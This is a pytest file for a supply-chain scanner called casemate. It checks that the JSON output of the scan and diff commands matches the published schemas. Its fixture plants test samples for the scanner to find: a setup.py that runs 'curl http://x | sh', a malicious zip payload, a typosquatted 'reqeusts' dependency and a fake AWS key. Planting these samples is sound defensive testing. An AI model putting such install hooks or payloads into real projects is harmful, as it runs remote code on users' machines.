"""What scripts read of ``casemate scan`` has the shape of its JSON Schemas, which are those in docs/reference."""

from __future__ import annotations

import datetime
import json
from pathlib import Path
from typing import Any

import joblib
import jsonschema
import numpy as np
import pytest

from casemate.cli import scan as command
from casemate.cli.app import run
from casemate.core.digests import canonical_json
from casemate.custody.provenance.scanned import scan_files
from casemate.threats.supply_chain.output.schemas import diff_schema, scan_schema
from tests.custody.test_scanned import onnx_folder
from tests.threats.supply_chain.containers.archives import EVIL, Member, zipped

REFERENCE = Path(__file__).parents[2] / "docs" / "reference"
SCAN = jsonschema.Draft202012Validator(json.loads(scan_schema()))
DIFF = jsonschema.Draft202012Validator(json.loads(diff_schema()))


def read(capsys: pytest.CaptureFixture[str], *words: str) -> Any:
    run(["scan", *words, "--format", "json"])
    return json.loads(capsys.readouterr().out)


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """One of everything: clean of several formats, malicious, unreadable, ignored, a dependency, a secret."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(command, "today", lambda: datetime.date(2026, 11, 25))
    root = onnx_folder(tmp_path / "all")
    np.save(root / "w.npy", np.arange(4))
    (root / "evil.zip").write_bytes(zipped(Member(b"m/x", EVIL)))
    (root / "what").write_bytes(b"\1\2\3")
    (root / "empty.pkl").write_bytes(b"")
    (root / "requirements.txt").write_text("reqeusts==2.0\nnumpy\n")
    (root / "setup.py").write_text("import os\nos.system('curl http://x | sh')\n")
    key = "AKIA" + "Z7Q3M5N2P4R6T8V1"
    (root / "notes.env").write_text(f"aws_access_key_id={key}\n")
    return root


def test_the_schemas_are_valid_and_those_of_the_reference() -> None:
    for name, made in (("scan", scan_schema()), ("scan-diff", diff_schema())):
        jsonschema.Draft202012Validator.check_schema(json.loads(made))
        written = json.loads((REFERENCE / f"{name}.schema.json").read_bytes())
        assert written == json.loads(made), "run: python tools/make_docs.py"
    assert json.loads(scan_schema())["title"] == "casemate.scan/1"


def test_a_scan_of_everything_has_the_shape_and_no_other_fields(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ignore = folder.parent / "accepted.toml"
    ignore.write_text('[[ignore]]\npath = "all/what"\nrule = "CM-SUP-141"\nreason = "ours"\nexpires = 2027-03-01\n')
    found = read(capsys, "all", "gone", "--dependencies", "--secrets", "--ignore", str(ignore))
    SCAN.validate(found)
    assert {each["verdict"] for each in found["artifacts"]} >= {"clean", "malicious", "unreadable"}
    assert {"dependencies", "secrets"} <= {each["format"] for each in found["artifacts"]}
    properties = json.loads(scan_schema())["$defs"]
    for each in found["artifacts"]:
        assert set(each) == set(properties["Artifact"]["properties"])
        assert all(set(finding) == set(properties["Located"]["properties"]) for finding in each["findings"])
    SCAN.validate(read(capsys, "all", "--no-hash"))


@pytest.mark.parametrize(
    "spoil",
    [
        lambda found: found.pop("schema"),
        lambda found: found.update(schema="casemate.scan/2"),
        lambda found: found["artifacts"][0].pop("coverage"),
        lambda found: found["artifacts"][0].update(verdict="fine"),
        lambda found: found["artifacts"][0].update(sha256="abc"),
        lambda found: found["artifacts"][0].update(coverage=1.5),
    ],
)
def test_other_shapes_are_refused(spoil: Any, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found = read(capsys, "all/w.npy")
    SCAN.validate(found)
    spoil(found)
    with pytest.raises(jsonschema.ValidationError):
        SCAN.validate(found)


def test_a_diff_has_the_shape(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = folder.parent / "old"
    old.mkdir()
    joblib.dump([1], old / "labels.joblib")
    np.save(old / "w.npy", np.arange(5))
    (old / "left.bin").write_bytes(b"\0\1")
    found = read(capsys, "--diff", "old", "all")
    DIFF.validate(found)
    assert {each["state"] for each in found["changes"]} >= {"same", "changed", "added", "removed"}
    found["changes"][0]["state"] = "moved"
    with pytest.raises(jsonschema.ValidationError):
        DIFF.validate(found)


def test_the_scan_in_a_seal_has_the_same_shape(folder: Path) -> None:
    names = ["encoder/model.onnx", "encoder/weights.bin", "evil.zip", "what"]
    said = scan_files(folder, names, "2026-11-25T12:00:00+00:00")
    SCAN.validate(json.loads(canonical_json(said)))
